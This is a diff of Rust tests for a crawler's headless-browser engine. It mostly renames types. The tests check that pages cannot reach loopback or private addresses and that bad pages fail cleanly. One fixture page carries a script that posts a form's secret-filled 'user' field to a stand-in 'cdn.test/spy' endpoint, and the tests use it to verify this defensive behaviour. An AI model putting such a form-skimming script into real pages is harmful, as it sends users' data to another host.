@@ -10,21 +10,21 @@ use tokio::net::{TcpListener, UdpSocket};
 use super::*;
 use crate::guard::Guard;
 use crate::model::{Failure, Script};
-use crate::robot::cookies::Jar;
-use crate::robot::session::Body;
+use crate::robot::cookies::CookieJar;
+use crate::robot::session::RequestBody;
 
 /// Far more than any of these needs, so that a busy machine fails none.
 const PLENTY: Duration = Duration::from_secs(90);
 
 /// A server with an answer for each path, which remembers what it was asked.
-struct Server {
+struct BrowserTestServer {
     address: SocketAddr,
     heard: Arc<Mutex<Vec<String>>>,
 }
 
-impl Server {
+impl BrowserTestServer {
     /// `{here}` in an answer is the server's own port. A path without answer is never answered.
-    async fn start(answers: &[(&str, String)]) -> Server {
+    async fn start(answers: &[(&str, String)]) -> BrowserTestServer {
         let listener = TcpListener::bind("127.0.0.1:0").await.expect("loopback has a free port");
         let address = listener.local_addr().expect("it is bound");
         let here = |text: &String| text.replace("{here}", &address.port().to_string());
@@ -47,7 +47,7 @@ impl Server {
                 });
             }
         });
-        Server { address, heard }
+        BrowserTestServer { address, heard }
     }
 
     fn url(&self, host: &str, path: &str) -> Url {
@@ -90,25 +90,26 @@ fn redirect_to(location: &str) -> String {
 }
 
 /// A browser for a task, to which `public.test` and `cdn.test` look public; and the session it belongs to.
-async fn browser(task: &str, server: &Server, jar: Jar, time: Duration) -> (Browser, Session) {
+async fn browser(task: &str, server: &BrowserTestServer, jar: CookieJar, time: Duration) -> (Browser, Session) {
     let task: Task =
         toml::from_str(&format!("fetch.engine = 'browser'\nfetch.delay = '0s'\nfetch.robots_txt = false\n{task}"))
             .expect("a task of the test");
     let guard = Guard::new(&task, &Script::default());
     for host in ["public.test", "cdn.test"] {
-        guard.pretend.stand_in(host, server.address);
+        guard.test_overrides.route_host_to(host, server.address);
     }
     let mut session = Session::new(
         &task,
         &BTreeMap::new(),
         guard,
         jar,
-        Box::new(crate::robot::Alone::default()),
+        Box::new(crate::robot::StandaloneHost::default()),
         Instant::now() + time,
     )
     .expect("a session");
-    let secrets = Blanks::new(&BTreeMap::from([("key".to_owned(), "hush-hush-7".to_owned())]));
-    let browser = Browser::start(Seat::default(), &task, &mut session, secrets).await.expect("Chromium is installed");
+    let secrets = Redactor::new(&BTreeMap::from([("key".to_owned(), "hush-hush-7".to_owned())]));
+    let browser =
+        Browser::start(BrowserPaths::default(), &task, &mut session, secrets).await.expect("Chromium is installed");
     (browser, session)
 }
 
@@ -138,10 +139,10 @@ fn attempts(host: &str, tcp: u16, udp: u16) -> String {
 
 #[tokio::test]
 async fn a_page_reaches_no_private_address_whatever_it_tries() {
-    let canary = Server::start(&[]).await;
+    let canary = BrowserTestServer::start(&[]).await;
     let udp = UdpSocket::bind("127.0.0.1:0").await.expect("loopback has a free port");
     let (tcp_port, udp_port) = (canary.address.port(), udp.local_addr().expect("it is bound").port());
-    let own = Server::start(&[
+    let own = BrowserTestServer::start(&[
         ("/a", html(&attempts("127.0.0.1", tcp_port, udp_port))),
         ("/b", html(&attempts("localhost", tcp_port, udp_port))),
         ("/c", html(&attempts("[::ffff:127.0.0.1]", tcp_port, udp_port))),
@@ -151,18 +152,19 @@ async fn a_page_reaches_no_private_address_whatever_it_tries() {
     ])
     .await;
     let hosts = "fetch.allow_hosts = ['public.test', '127.0.0.1', 'localhost', '[::ffff:7f00:1]']";
-    let (mut browser, mut session) = browser(hosts, &own, Jar::default(), PLENTY).await;
+    let (mut browser, mut session) = browser(hosts, &own, CookieJar::default(), PLENTY).await;
     for path in ["/a", "/b", "/c"] {
-        let page = browser.go(&mut session, Request::get(own.url("public.test", path))).await.expect("a page");
+        let page = browser.go(&mut session, PageRequest::get(own.url("public.test", path))).await.expect("a page");
         assert!(body(&page).contains("<h1>here</h1>"), "{}", body(&page));
         assert!(!session.log.iter().any(|line| line.text.contains("still busy")), "{:?}", session.log);
     }
     for path in ["/found", "/script", "/refresh"] {
-        let error = browser.go(&mut session, Request::get(own.url("public.test", path))).await.expect_err("refused");
+        let error =
+            browser.go(&mut session, PageRequest::get(own.url("public.test", path))).await.expect_err("refused");
         assert_eq!(error.cause(), Failure::Network, "{path}: {error}");
         assert!(error.to_string().contains("fetch.allow_private"), "{path}: {error}");
     }
-    let error = browser.go(&mut session, Request::get(canary.url("127.0.0.1", "/"))).await.expect_err("refused");
+    let error = browser.go(&mut session, PageRequest::get(canary.url("127.0.0.1", "/"))).await.expect_err("refused");
     assert_eq!(error.cause(), Failure::Network, "{error}");
     browser.end().await;
     assert_eq!(*canary.heard.lock().expect("nobody panicked"), Vec::<String>::new());
@@ -171,9 +173,9 @@ async fn a_page_reaches_no_private_address_whatever_it_tries() {
 
 #[tokio::test]
 async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
-    let canary = Server::start(&[]).await;
+    let canary = BrowserTestServer::start(&[]).await;
     let port = canary.address.port();
-    let own = Server::start(&[
+    let own = BrowserTestServer::start(&[
         ("/", html(&attempts("localhost", port, port))),
         ("/cdn", html("<script src='http://cdn.test:{here}/lib.js'></script><iframe src='http://cdn.test:{here}/frame'></iframe>")),
         ("/lib.js", answer("200 OK\r\nContent-Type: text/javascript", "document.body.append('from the cdn')")),
@@ -181,9 +183,9 @@ async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
     ])
     .await;
     let task = "url = 'http://127.0.0.1/'\nfetch.allow_private = true";
-    let (mut browser, mut session) = browser(task, &own, Jar::default(), PLENTY).await;
-    browser.go(&mut session, Request::get(own.url("127.0.0.1", "/"))).await.expect("a page");
-    let page = browser.go(&mut session, Request::get(own.url("127.0.0.1", "/cdn"))).await.expect("a page");
+    let (mut browser, mut session) = browser(task, &own, CookieJar::default(), PLENTY).await;
+    browser.go(&mut session, PageRequest::get(own.url("127.0.0.1", "/"))).await.expect("a page");
+    let page = browser.go(&mut session, PageRequest::get(own.url("127.0.0.1", "/cdn"))).await.expect("a page");
     assert!(body(&page).contains("from the cdn"), "a script of a public host is loaded: {}", body(&page));
     browser.end().await;
     assert_eq!(*canary.heard.lock().expect("nobody panicked"), Vec::<String>::new(), "localhost is not 127.0.0.1");
@@ -192,7 +194,7 @@ async fn what_is_allowed_at_home_is_not_allowed_elsewhere() {
 
 #[tokio::test]
 async fn bad_pages_end_in_named_outcomes() {
-    let own = Server::start(&[
+    let own = BrowserTestServer::start(&[
         ("/busy", html("<script>for (;;) {}</script>")),
         ("/loop", redirect_to("/loop")),
         ("/wander", html("<script>location = '/wander?' + Math.random()</script>")),
@@ -212,7 +214,7 @@ async fn bad_pages_end_in_named_outcomes() {
     ])
     .await;
     let limits = format!("{PUBLIC}limits.max_page_bytes = '2M'");
-    let (mut browser, mut session) = browser(&limits, &own, Jar::default(), PLENTY).await;
+    let (mut browser, mut session) = browser(&limits, &own, CookieJar::default(), PLENTY).await;
     for (path, cause, sentence) in [
         ("/loop", Failure::Http, "redirected more than"),
         ("/wander", Failure::Http, "redirected more than"),
@@ -220,27 +222,27 @@ async fn bad_pages_end_in_named_outcomes() {
         ("/file", Failure::Http, "to be downloaded"),
         ("/large", Failure::Limit, "is larger than 2M"),
     ] {
-        let error = browser.go(&mut session, Request::get(own.url("public.test", path))).await.expect_err(path);
+        let error = browser.go(&mut session, PageRequest::get(own.url("public.test", path))).await.expect_err(path);
         assert_eq!(error.cause(), cause, "{path}: {error}");
         assert!(error.to_string().contains(sentence), "{path}: {error}");
     }
-    let page = browser.go(&mut session, Request::get(own.url("public.test", "/dialogs"))).await.expect("a page");
+    let page = browser.go(&mut session, PageRequest::get(own.url("public.test", "/dialogs"))).await.expect("a page");
     assert!(body(&page).contains("after all"));
-    let page = browser.go(&mut session, Request::get(own.url("public.test", "/gone"))).await.expect("a page");
+    let page = browser.go(&mut session, PageRequest::get(own.url("public.test", "/gone"))).await.expect("a page");
     assert_eq!(page.meta.status, 404);
-    let page = browser.go(&mut session, Request::get(own.url("public.test", "/json"))).await.expect("a page");
+    let page = browser.go(&mut session, PageRequest::get(own.url("public.test", "/json"))).await.expect("a page");
     assert_eq!(body(&page), "{\"a\": [1, 2]}", "as it came");
-    let busy = browser.go(&mut session, Request::get(own.url("public.test", "/busy"))).await.expect_err("busy");
+    let busy = browser.go(&mut session, PageRequest::get(own.url("public.test", "/busy"))).await.expect_err("busy");
     assert_eq!(busy.cause(), Failure::Timeout, "{busy}");
     browser.end().await;
 }
 
 #[tokio::test]
 async fn a_page_that_never_comes_ends_with_the_runs_time() {
-    let own = Server::start(&[]).await;
-    let (mut browser, mut session) = browser(PUBLIC, &own, Jar::default(), Duration::from_secs(8)).await;
+    let own = BrowserTestServer::start(&[]).await;
+    let (mut browser, mut session) = browser(PUBLIC, &own, CookieJar::default(), Duration::from_secs(8)).await;
     let error =
-        browser.go(&mut session, Request::get(own.url("public.test", "/never"))).await.expect_err("it never comes");
+        browser.go(&mut session, PageRequest::get(own.url("public.test", "/never"))).await.expect_err("it never comes");
     assert_eq!(error.cause(), Failure::Timeout, "{error}");
     browser.end().await;
 }
@@ -250,7 +252,7 @@ async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
     let form = "<form id=f method=post action=/form><input name=user><select name=town><option>Truro<option>Halifax</select></form>\
         <script>f.onsubmit = async (it) => { it.preventDefault(); await fetch('/sent', { method: 'POST', body: new FormData(f).get('user') });\
         fetch('http://cdn.test:{here}/spy', { method: 'POST', body: new FormData(f).get('user') }).catch(() => 0); document.body.append('done') }</script>";
-    let own = Server::start(&[
+    let own = BrowserTestServer::start(&[
         (
             "/set",
             answer(
@@ -265,18 +267,18 @@ async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
         ("/spy", answer("200 OK\r\nAccess-Control-Allow-Origin: *", "")),
     ])
     .await;
-    let mut jar = Jar::default();
-    jar.take("old=1; Path=/", &own.url("public.test", "/"));
+    let mut jar = CookieJar::default();
+    jar.store("old=1; Path=/", &own.url("public.test", "/"));
     let task = "fetch.allow_hosts = ['public.test']";
     let (mut chrome, mut session) = browser(task, &own, jar, PLENTY).await;
-    chrome.go(&mut session, Request::get(own.url("public.test", "/set"))).await.expect("a page");
+    chrome.go(&mut session, PageRequest::get(own.url("public.test", "/set"))).await.expect("a page");
     assert!(own.heard("Cookie: old=1"), "{:?}", own.heard);
     let cookies = session.jar.header(&own.url("public.test", "/"));
     assert_eq!(cookies.as_deref(), Some("js=3; old=1; sid=2"), "what the browser has goes back into the jar");
 
-    let mut post = Request { post: true, ..Request::get(own.url("public.test", "/post")) };
+    let mut post = PageRequest { post: true, ..PageRequest::get(own.url("public.test", "/post")) };
     post.headers.push(("X-Api-Key".to_owned(), "for public.test".to_owned()));
-    post.body = Some(Body { content_type: "application/json".to_owned(), bytes: b"{\"a\":1}".to_vec() });
+    post.body = Some(RequestBody { content_type: "application/json".to_owned(), bytes: b"{\"a\":1}".to_vec() });
     let error = chrome.go(&mut session, post).await.expect_err("another host");
     assert!(error.to_string().contains("cdn.test"), "{error}");
     for part in ["POST /post", "for public.test", "application/json", "{\"a\":1}"] {
@@ -284,13 +286,14 @@ async fn cookies_headers_and_forms_go_out_as_with_the_other_engine() {
     }
     assert!(!own.heard("/elsewhere") && !own.heard("favicon"), "{:?}", own.heard);
 
-    let page = chrome.go(&mut session, Request::get(own.url("public.test", "/form"))).await.expect("a page");
+    let page = chrome.go(&mut session, PageRequest::get(own.url("public.test", "/form"))).await.expect("a page");
     let tree = crate::page::Tree::parse(&body(&page));
     let values =
         [("user", "hush-hush-7"), ("town", "Halifax")].map(|(name, value)| (name.to_owned(), value.to_owned()));
-    let form = &crate::robot::form::all(&tree)[0];
-    let filling = form.filling(&tree, &values.into(), crate::robot::form::Press::First).expect("its fields");
-    let request = Request { filling: Some(filling), ..Request::get(page.meta.url.clone()) };
+    let form = &crate::robot::form::find_all(&tree)[0];
+    let filling =
+        form.browser_input(&tree, &values.into(), crate::robot::form::SubmitButton::First).expect("its fields");
+    let request = PageRequest { browser_input: Some(filling), ..PageRequest::get(page.meta.url.clone()) };
     let page = chrome.go(&mut session, request).await.expect("the page's script sends it");
     assert!(body(&page).contains("done"), "{}", body(&page));
     assert!(own.heard("hush-hush-7"));
